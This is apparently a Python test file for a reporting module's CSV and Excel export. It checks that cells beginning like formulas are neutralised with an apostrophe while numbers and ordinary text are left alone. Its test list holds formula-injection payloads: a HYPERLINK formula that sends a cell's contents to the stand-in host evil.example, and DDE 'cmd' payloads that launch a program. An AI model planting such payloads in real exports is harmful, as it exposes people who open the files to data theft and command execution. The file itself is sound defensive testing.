"""CSV and Excel output: a text cell that starts like a formula is shown as text, numbers stay numbers."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from contactqa.reporting.spreadsheets import spreadsheet_safe, write_csv, write_xlsx

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"Нажмите\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -12.5, 0, 3, 87.5, None, True, "", "Добрый день", "5 000 тенге",
                                   "-5", "-12.5", "+7", "a=b", "agent@bank.kz", "2026-11-02"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_a_csv_opens_with_formulas_as_text_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, ["contact_id", "quote", "score_pct"],
              [["chat-1", text, -5] for text in HOSTILE] + [["chat-2", "спасибо", 87.5]])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["contact_id", "quote", "score_pct"]
    assert [row[1] for row in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert all(row[2] == "-5" for row in rows[1:-1])
    assert rows[-1] == ["chat-2", "спасибо", "87.5"]


def test_an_xlsx_stores_formulas_as_text_and_negative_numbers_as_numbers(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, ["contact_id", "quote", "score_pct"], [["chat-1", text, -5] for text in HOSTILE],
               sheet="Findings")
    sheet = load_workbook(path)["Findings"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[1].value for row in rows] == ["'" + text for text in HOSTILE]
    assert all(row[1].data_type == "s" for row in rows)  # text, not a formula
    assert all(row[2].value == -5 and row[2].data_type == "n" for row in rows)
    assert [cell.value for cell in sheet[1]] == ["contact_id", "quote", "score_pct"]
